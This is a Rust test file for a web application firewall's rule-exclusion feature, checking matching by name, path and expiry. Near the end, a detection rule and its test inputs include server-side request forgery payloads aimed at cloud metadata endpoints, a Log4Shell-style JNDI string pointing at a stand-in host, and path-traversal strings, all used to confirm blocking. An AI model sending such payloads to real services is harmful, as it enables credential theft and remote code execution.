//! Matches of rules that an exclusion takes away, and no others.

use std::sync::Arc;

use portcullis_event::Action;
use portcullis_inspect::{Outcome, Report, RuleExclusion};
use portcullis_types::Variable;

use crate::common::{begin, inspector, plan, request_head};

const RULES: &str = r#"
SecRuleEngine On
SecAction "id:1,phase:1,pass,nolog,setvar:tx.score=0"
SecRule ARGS|REQUEST_HEADERS "@rx (ba)d" "id:101,phase:1,pass,log,capture,setvar:tx.score=+5,setvar:tx.word=%{tx.1}"
SecRule ARGS "@contains worse" "id:102,phase:1,pass,log,chain"
  SecRule ARGS "@contains worse" "setvar:tx.score=+5"
SecRule REQUEST_METHOD "@streq PUT" "id:103,phase:1,deny,log"
SecRule &ARGS:many "@gt 1" "id:104,phase:1,deny,log"
SecRule TX:score "@ge 5" "id:105,phase:1,deny,log"
SecRule TX:word "@streq ba" "id:106,phase:1,pass,log"
"#;

fn excluded(rules: &[u32], variable: Option<Variable>, name: Option<&str>) -> RuleExclusion {
    let (rules, name) = (rules.to_vec(), name.map(str::to_owned));
    RuleExclusion { rules, variable, name, ..RuleExclusion::default() }
}

#[track_caller]
fn run(exclusions: &[RuleExclusion], line: &str, headers: &str) -> Report {
    let inspector = Arc::new(inspector(plan(RULES)).with_rule_exclusions(exclusions.to_vec()));
    let mut inspection = begin(&inspector);
    inspection.request_head(&request_head(&format!("{line} HTTP/1.1\r\nHost: h\r\n{headers}\r\n")), None);
    inspection.request_end(false);
    inspection.finish(&Outcome::default())
}

fn passes(report: &Report) -> bool {
    report.action != Action::Deny
}

/// One value of one variable: the same rule still sees the others, and other rules still see this one.
#[test]
fn a_match_in_this_value_does_not_count() {
    let q = [excluded(&[101], Some(Variable::Args), Some("q"))];
    let report = run(&q, "GET /?q=bad", "");
    assert!(passes(&report) && report.event.is_none(), "{report:?}");
    assert_eq!(report.excluded.rules, [0]);
    for (line, headers) in [
        ("GET /?q=bad&p=bad", ""),
        ("GET /?qq=bad", ""),
        ("GET /?q=ok", "X-A: bad\r\n"),
        ("GET /?q=worse", ""),
    ] {
        assert!(!passes(&run(&q, line, headers)), "{line}");
    }
    // What took nothing away has no hit.
    assert!(run(&q, "GET /?q=good&p=bad", "").excluded.rules.is_empty());
    // A name goes by any case, with stars for any text.
    for name in ["Q", "*", "q*"] {
        assert!(
            passes(&run(&[excluded(&[101], Some(Variable::Args), Some(name))], "GET /?q=bad", "")),
            "{name}"
        );
    }
    assert!(!passes(&run(&[excluded(&[101], Some(Variable::Args), Some("x*"))], "GET /?q=bad", "")));
}

/// Chains go by their first link; rules that the engine decides without looking at values, and counts, too.
#[test]
fn rules_of_every_sort_can_be_excluded() {
    let chain = [excluded(&[102], Some(Variable::Args), Some("q"))];
    assert!(passes(&run(&chain, "GET /?q=worse", "")) && !passes(&run(&chain, "GET /?p=worse", "")));
    for (rule, line) in [(103, "PUT /"), (104, "GET /?many=1&many=2"), (105, "GET /?q=bad")] {
        assert!(!passes(&run(&[], line, "")), "{rule}");
        let report = run(&[excluded(&[rule], None, None)], line, "");
        assert!(passes(&report), "{rule}: {report:?}");
        assert_eq!(report.excluded.rules, [0], "{rule}");
    }
    // A target does not stand for the number of its values, as with `ctl:ruleRemoveTargetById`.
    assert!(!passes(&run(&[excluded(&[104], Some(Variable::Args), None)], "GET /?many=1&many=2", "")));
    // What is excluded leaves no captures.
    let report = run(&[excluded(&[101], Some(Variable::Args), None)], "GET /?q=bad", "");
    assert!(report.matched_rules.is_empty(), "{report:?}");
    // Several that fit are all in use; a rule that is not there excludes nothing.
    let both = [excluded(&[9], None, None), excluded(&[101], None, None), excluded(&[101, 102], None, None)];
    assert_eq!(run(&both, "GET /?q=bad", "").excluded.rules, [1, 2]);
}

/// A client does not carry an exclusion to another path, nor beyond its end.
#[test]
fn an_exclusion_stays_on_its_path_and_in_its_time() {
    let on = |path: &str| {
        [RuleExclusion { path: Some(path.to_owned()), ..excluded(&[101], Some(Variable::Args), Some("q")) }]
    };
    assert!(passes(&run(&on("/posts/{id}"), "GET /posts/7?q=bad", "")));
    assert!(passes(&run(&on("/posts/"), "GET /posts/7/edit?q=bad", "")));
    for target in [
        "/posts/7/edit",
        "/posts/",
        "/posts/7/..",
        "/posts/..%2fadmin",
        "//posts/7",
        "/posts/7;x",
        "/Posts/7",
    ] {
        assert!(!passes(&run(&on("/posts/{id}"), &format!("GET {target}?q=bad"), "")), "{target}");
    }
    // The test's clock stands at 1,700,000,000.123 s.
    for (until, holds) in [(1_700_000_000_124, true), (1_700_000_000_123, false), (0, false)] {
        let exclusion = RuleExclusion { until: Some(until), ..excluded(&[101], None, None) };
        assert_eq!(passes(&run(&[exclusion], "GET /?q=bad", "")), holds, "{until}");
    }
}

/// Of a value with what acts wherever it is read, an exclusion of a profile takes nothing away.
#[test]
fn a_profile_excludes_nothing_in_severe_values() {
    const ADDRESS: &str = r#"
SecRuleEngine On
SecRule ARGS "@rx (?i)://(localhost|169|metadata|0x)|jndi" "id:201,phase:1,deny,log,t:urlDecode"
"#;
    let asked = |of_profile: bool, target: &str| {
        let rule = RuleExclusion { of_profile, ..excluded(&[201], Some(Variable::Args), Some("url")) };
        let inspector = Arc::new(inspector(plan(ADDRESS)).with_rule_exclusions(vec![rule]));
        let mut inspection = begin(&inspector);
        inspection.request_head(&request_head(&format!("GET {target} HTTP/1.1\r\nHost: h\r\n\r\n")), None);
        inspection.request_end(false);
        passes(&inspection.finish(&Outcome::default()))
    };
    for target in ["/?url=http://localhost:9090/", "/?url=http%3A%2F%2Flocalhost/x"] {
        assert!(asked(true, target) && asked(false, target), "{target}");
    }
    for target in [
        "/?url=http://169.254.169.254/latest/meta-data/",
        "/?url=http%253A%252F%252F169.254.169.254%252Flatest",
        "/?url=http://localhost/+http://metadata.google.internal/computeMetadata/v1/",
        "/?url=http://0xA9FEA9FE/latest/",
        "/?url=$%7Bjndi:ldap://a.example/x%7D",
    ] {
        // Who excludes the rule in the document, excludes it for all.
        assert!(!asked(true, target) && asked(false, target), "{target}");
    }
}
